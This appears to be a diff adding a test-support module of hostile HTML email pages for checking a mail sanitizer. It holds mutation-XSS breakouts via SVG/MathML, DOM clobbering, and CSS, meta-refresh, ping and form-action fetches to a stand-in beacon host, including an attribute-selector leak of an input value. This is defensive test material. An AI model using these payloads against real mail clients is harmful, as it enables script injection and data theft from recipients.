@@ -1,0 +1,200 @@
+"""More pages of hostile mail: those that change their meaning when they are parsed again.
+
+Namespaces (SVG, MathML), raw text, templates, clobbered names, and ways to fetch without a tag that
+is known for it. As in `html_attacks`, each says `hit` or requests an address of `BEACON`.
+"""
+
+# ruff: noqa: E501 - an attack is easier to read on one line
+from support.html_attacks import BEACON, RUN
+
+B = BEACON
+BAD = f"<img src={B}/mx onerror='x'>"
+_PREFETCH = f'{{"prefetch":[{{"source":"list","urls":["{B}/sp"]}}]}}'
+_PRERENDER = f'{{"prerender":[{{"where":{{"href_matches":"{B}/*"}},"eagerness":"immediate"}}]}}'
+
+MUTATIONS = {
+    "style in math text": f"<math><mtext><style><!--</style>{BAD}--></style></mtext></math>",
+    "style in mglyph": f"<math><mi><mglyph><style><a title='</style>{BAD}'></style></mglyph></mi>",
+    "style in malignmark": f"<math><mo><malignmark><style>{BAD}</style></malignmark></mo></math>",
+    "annotation-xml of html": "<math><annotation-xml encoding='text/html'><style><a title='"
+    f"</style>{BAD}'></style></annotation-xml></math>",
+    "annotation-xml of svg": f"<math><annotation-xml><svg><style>{BAD}</style></svg>",
+    "title in desc": f"<svg><desc><title><a title='</title>{BAD}'></title></desc></svg>",
+    "style in svg title": f"<svg><title><style><a title='</style>{BAD}'></style></title></svg>",
+    "textarea in svg": f"<svg><textarea><a title='</textarea>{BAD}'></textarea></svg>",
+    "script in svg style": f"<svg><style><script>{RUN}</script></style></svg>",
+    "CDATA in svg": f"<svg><desc><![CDATA[</desc>{BAD}]]></desc></svg>",
+    "CDATA of style": f"<svg><style><![CDATA[</style>{BAD}]]></style></svg>",
+    "comment in svg style": f"<svg><style><!--</style>{BAD}--></style></svg>",
+    "paragraph out of svg": f"<svg><p><style><a title='</style>{BAD}'></style></p></svg>",
+    "break out of math": f"<math><br><style><a title='</style>{BAD}'></style></math>",
+    "font out of svg": f"<svg><font color=x><style><a title='</style>{BAD}'></style></font></svg>",
+    "font within svg": f"<svg><font><style>{BAD}</style></font></svg>",
+    "foreignObject to math": f"<svg><foreignObject><math><mi><style>{BAD}</style></mi></math>",
+    "svg in svg": f"<svg><svg><foreignObject>{BAD}</foreignObject></svg></svg>",
+    "svg in a table": f"<table><svg><foreignObject><td>{BAD}</td></foreignObject></svg></table>",
+    "table out of form": f"<form><table><form></table>{BAD}</form></form>",
+    "form in form": f"<form><div></form><form><style></div>{BAD}</style></form>",
+    "form in math": f"<form><math><mtext></form><form><mglyph><style></math>{BAD}",
+    "table text": f"<table>text<style><a title='</style>{BAD}'></style></table>",
+    "caption twice": f"<table><caption><caption>{BAD}</caption></table>",
+    "select with svg": f"<select><svg><style>{BAD}</style></svg></select>{BAD}",
+    "select of templates": f"<select><template><style><!--</style>{BAD}--></style></template>",
+    "option with a list": f"<select><option><select>{BAD}</option></select>",
+    "link in a link": f"<a href='#1'><div><a href='#2'>{BAD}</a></div></a>",
+    "link in a table": f"<a><table><td><a>{BAD}</a></table></a>",
+    "nobr": f"<nobr><b><nobr><style><a title='</style>{BAD}'></style></nobr></b>",
+    "formatting twice": "<b><i>" * 40 + BAD + "</b></i>" * 40,
+    "headings": f"<h1><h2><style><a title='</style>{BAD}'></style></h1></h2>",
+    "list in a button": f"<button><li><button>{BAD}</button>",
+    "deep tables": "<table><td>" * 300 + BAD,
+    "deep quotes": "<blockquote>" * 600 + BAD,
+    "deep formatting": "<font>" * 600 + BAD,
+    "noscript": f"<noscript><a title='</noscript>{BAD}'></noscript>",
+    "noscript in the head": f"<head><noscript><style></noscript>{BAD}</style></head>",
+    "noembed": f"<noembed><style><a title='</noembed>{BAD}'></style></noembed>",
+    "noframes": f"<noframes><a title='</noframes>{BAD}'></noframes>",
+    "iframe text": f"<iframe><a title='</iframe>{BAD}'></iframe>",
+    "xmp": f"<xmp><p title='</xmp>{BAD}'></xmp>",
+    "listing": f"<listing>&lt;img src=1&gt;{BAD}</listing>",
+    "plaintext in svg": f"<svg><plaintext></svg>{BAD}",
+    "title of the body": f"<body><title><a title='</title>{BAD}'></title>",
+    "textarea twice": f"<textarea><textarea></textarea>{BAD}</textarea>",
+    "template": f"<template><script>{RUN}</script></template>{BAD}",
+    "template in svg": f"<svg><template><style>{BAD}</style></template></svg>",
+    "template of rows": f"<template><tr><td>{BAD}</td></tr></template><table><tr><td>{BAD}",
+    "shadow root": f"<p><template shadowrootmode=closed><style>@import '{B}/sh';</style></template>",
+    "shadow root with a slot": f"<p><template shadowrootmode=open><slot name=x></slot>{BAD}"
+    "</template><i slot=x>y</i></p>",
+    "document in a template": f'<template><html><body onload="{RUN}"></template>{BAD}',
+    "processing instruction": f"<?xml-stylesheet href='{B}/pi' ?>{BAD}",
+    "processing instruction in svg": f"<svg><?p <style>{BAD}</style> ?></svg>",
+    "doctype in the body": f"<!DOCTYPE x [<!ENTITY y '{BAD}'>]>&y;{BAD}",
+    "comment that ends early": f"<!-->{BAD}-->",
+    "comment that ends with a bang": f"<!--x--!>{BAD}<!---->",
+    "comment of dashes": f"<!------>{BAD}-->",
+    "comment in an attribute": f"<p title='<!--'>{BAD}<p title='-->'>",
+    "comment nested": f"<!-- <!-- -->{BAD} -->",
+    "end tag with attributes": f"</p title='>'>{BAD}",
+    "end tag of nothing": f"</><//>{BAD}",
+    "bogus tag": f"<%><a title='%>{BAD}'>",
+    "attribute without a value": f"<p a=<b>{BAD}",
+    "attribute with a slash": f"<p/title='/>'/>{BAD}",
+    "attribute twice": f"<img src=# src={B}/twice onerror='x' onerror=\"{RUN}\">{BAD}",
+    "attribute with a form feed": f"<img\x0csrc={B}/ff>",
+    "attribute with a vertical tab": f"<img src\x0b={B}/vt src={B}/vt2>",
+    "quotes in an attribute": f"<p title='\"><img src={B}/q1>'></p><img src={B}/q2>",
+    "entity without a semicolon": "<img src=https&#58//beacon.test/ent>",
+    "entity of a long number": "<img src=https&#x000000000003A;//beacon.test/long>",
+    "entity by name": "<img src=https&colon;&sol;&sol;beacon.test/named>",
+    "NUL in a tag name": f"<sty\0le></style>{BAD}",
+    "NUL in raw text": f"<style>\0</style>{BAD}",
+    "replacement characters": f"<p title='\ufffd'>\ufffe{BAD}",
+    "byte order mark": f"\ufeff{BAD}",
+    "text direction": f"<p>\u202e{BAD}\u202c</p>",
+    "clobbered document": f"<form name=body><input name=firstChild></form>{BAD}",
+    "clobbered attributes": f"<form><input name=attributes><input name=nodeName>{BAD}</form>",
+    "clobbered children": f"<form id=f><input name=childNodes></form><p form=f>{BAD}</p>",
+    "clobbered by an image": f"<img name=getElementById src={B}/cl1>",
+    "clobbered by an object": f"<object name=cookie data={B}/cl2></object>",
+    "clobbered location": f"<a id=location href={B}/cl3></a><a id=location></a>{BAD}",
+    "base in the body": f"<p><base href={B}/bb/></p><img src=x.png>",
+    "base with a target": f"<base href={B}/bt/ target=_top><img src=y.png>",
+    "base in svg": f"<svg><base href={B}/bs/></svg>{BAD}",
+    "refresh in the body": f"<p><meta http-equiv=refresh content='0; url={B}/mr1'></p>",
+    "refresh with a comma": f"<meta http-equiv=refresh content='0,{B}/mr2'>",
+    "refresh without a name": f"<meta http-equiv=refresh content='0;{B}/mr3'>",
+    "refresh in capitals": f"<META HTTP-EQUIV='Refresh' CONTENT='0;URL={B}/mr4'>",
+    "refresh in noscript": f"<noscript><meta http-equiv=refresh content='0;url={B}/mr5'></noscript>"
+    + BAD,
+    "speculation by list": f"<script type=speculationrules>{_PREFETCH}</script>{BAD}",
+    "speculation by document": f"<script type=speculationrules>{_PRERENDER}</script>"
+    f"<a href={B}/spec>x</a>{BAD}",
+    "sheet of attributes": "".join(
+        f"<style>input[value^={one}]{{background:url({B}/x{one})}}</style>" for one in "abcs"
+    )
+    + "<input value=secret>",
+    "sheet of fonts by range": f"<style>@font-face{{font-family:l;src:url({B}/l);unicode-range:U+4c}}"
+    "p{font-family:l}</style><p>L</p>",
+    "sheet with layers": f"<style>@layer a{{p{{background:url({B}/layer)}}}}</style><p>x</p>",
+    "sheet with a condition": f"<style>@supports(color:red){{p{{background:url({B}/sup)}}}}</style><p>",
+    "sheet with a media query": f"<style>@media all{{p{{background:url({B}/med)}}}}</style><p>x</p>",
+    "sheet with a container": f"<style>div{{container-type:size}}@container(width>=0){{p{{background:"
+    f"url({B}/con)}}}}</style><div><p>x</p></div>",
+    "sheet nested": f"<style>div{{& p{{background:url({B}/nest)}}}}</style><div><p>x</p></div>",
+    "sheet of has": f"<style>body:has(p){{background:url({B}/has)}}</style><p>x</p>",
+    "sheet import with a layer": f"<style>@import url({B}/il) layer(x);</style>",
+    "sheet import with an escape": rf"<style>@\69mport '{B}/ie';</style>",
+    "sheet with src()": f"<style>p{{background:image-set('{B}/srcs' 2x,'{B}/srcs1' 1x)}}</style><p>x",
+    "sheet of a scroll bar": f"<style>::-webkit-scrollbar{{background:url({B}/sb)}}"
+    "html{overflow:scroll}</style>" + BAD,
+    "sheet of a first letter": f"<style>p::first-letter{{background:url({B}/fl)}}</style><p>x",
+    "sheet of a marker": f"<style>li::marker{{content:url({B}/mk)}}</style><ul><li>x</ul>",
+    "style with a shape": f"<p style='float:left;shape-outside:url({B}/so)'>x</p>" + BAD,
+    "style with a clip": f"<p style='clip-path:url({B}/cp#x)'>x</p>",
+    "style with a mask image": f"<p style='-webkit-mask-image:url({B}/mi)'>x</p>",
+    "style with cross-fade": f"<p style='background:-webkit-cross-fade(url({B}/cf),none,50%)'>x</p>",
+    "style after an entity": f"<p style='background:&#117;rl({B}/ue)'>x</p>",
+    "style with a newline": f"<p style='background:\\\nurl({B}/nl);background:url({B}/nl2)'>x</p>",
+    "srcset of densities": f"<img srcset='{B}/d1 1x,{B}/d2 1.5x' src=data:,>",
+    "srcset of widths": f"<img sizes=100vw srcset='{B}/w1 100w,{B}/w2 4000w'>",
+    "srcset of a source": f"<picture><source media=all srcset={B}/so1><img src={B}/so2></picture>",
+    "images of a link": f"<link rel=preload as=image imagesrcset='{B}/is 1x' imagesizes=1px>",
+    "link of an alternate sheet": f"<link rel='alternate stylesheet' title=x href={B}/alt>{BAD}",
+    "link in the body": f"<p><link rel=stylesheet href={B}/lb></p>",
+    "link in svg": f"<svg><link rel=stylesheet href={B}/ls></svg>{BAD}",
+    "svg in an image": f"<img src=\"data:image/svg+xml,<svg onload='{'x'}'></svg>\">{BAD}",
+    "svg by use of data": f"<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'/></svg>{BAD}",
+    "svg pattern": f"<svg><pattern id=p><image href={B}/pat /></pattern><rect width=9 height=9 "
+    "fill=url(#p) /></svg>",
+    "svg by animation": f"<svg><image><animate attributeName=href values={B}/an /></image></svg>",
+    "svg mask": f"<svg><mask id=m><image href={B}/ma width=9 height=9 /></mask>"
+    "<rect width=9 height=9 mask=url(#m) /></svg>",
+    "svg cursor": f"<svg><style>*{{cursor:url({B}/cu),auto;fill:url({B}/fi#x)}}</style>{BAD}",
+    "svg event by animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s /></svg>',
+    "svg event by set": f'<svg><set onbegin="{RUN}" attributeName=x to=1 /></svg>',
+    "math with an image": f"<math><mtext><table><tr><td>{BAD}</table></mtext></math>",
+    "object in an object": f"<object><object data={B}/oo></object></object>",
+    "object with a parameter": f"<object type=text/html><param name=src value={B}/op></object>{BAD}",
+    "embed of a script": f'<embed src="javascript:{RUN}">{BAD}',
+    "video poster": f"<video poster={B}/vp></video>",
+    "video of sources": f"<video autoplay><source src={B}/vs1><source src={B}/vs2></video>",
+    "frame with sandbox": f"<iframe sandbox='allow-scripts' src={B}/fs></iframe>",
+    "frame srcdoc": f"<iframe srcdoc='&lt;img src={B}/fd&gt;'></iframe>",
+    "fenced frame": f"<fencedframe src={B}/ff></fencedframe>{BAD}",
+    "portal": f"<portal src={B}/po></portal>{BAD}",
+    "marquee background": f"<marquee background={B}/mb>x</marquee>{BAD}",
+    "body link": f"<body background='{B}/bl' link=red>",
+    "row background": f"<table><tr background={B}/rb><td>x</table>",
+    "isindex": f"<isindex action={B}/ix type=image src={B}/ix2>{BAD}",
+    "keygen": f'<keygen autofocus onfocus="{RUN}">{BAD}',
+    "menu with an icon": f"<menuitem icon={B}/ic>{BAD}</menuitem>",
+}
+"""name -> page"""
+
+PRESSED_MUTATIONS = {
+    "ping of several": f"<a id=press href='#x' ping='{B}/p1 {B}/p2'>x</a>",
+    "ping of an area": f"<map name=m><area shape=default href='#x' ping={B}/p3></map>"
+    "<img id=press usemap=#m width=50 height=50>",
+    "link with attribution": f"<a id=press href='#x' attributionsrc={B}/at ping={B}/at2>x</a>",
+    "link to data": f"<a id=press href='data:text/html,x' ping={B}/ld>x</a><img src={B}/ld1>",
+    "link to a view source": f"<a id=press href='view-source:{B}/vs' ping={B}/vs>x</a>",
+    "link to a blob": f"<a id=press href='blob:{B}/x' ping={B}/bl>x</a>",
+    "link of vbscript": f"<a id=press href='vbscript:x' onclick=\"{RUN}\">x</a>",
+    "link with a tab and an entity": f'<a id=press href="&Tab;java&NewLine;script&colon;{RUN}">x</a>',
+    "link to a script in math": f'<math><mi id=press href="javascript:{RUN}" '
+    f'onclick="{RUN}">x</mi></math>',
+    "link changed by svg": "<svg width=99 height=99><a id=a><set attributeName=href "
+    f'to="javascript:{RUN}" /><text id=press y=20>press</text></a></svg>',
+    "form through a label": f"<form action={B}/fl><label id=press for=s>x</label>"
+    "<input id=s type=submit></form>",
+    "form of an image": f"<form action={B}/fi><input id=press type=image alt=x></form>",
+    "form of an unclosed tag": f"<form action={B}/fu><button id=press",
+    "form by get elsewhere": f"<form target=_blank action={B}/fg><button id=press>x</button></form>",
+    "dialog that sends": f"<dialog open><form action={B}/di><button id=press>x</button></form>"
+    "</dialog>",
+    "invoker": f'<button id=press commandfor=d command=show-modal onclick="{RUN}">x</button>'
+    "<dialog id=d>x</dialog>",
+    "clobbered form": f"<form id=f action={B}/cf><input name=action><button id=press>x</button></form>",
+}
+"""name -> page"""
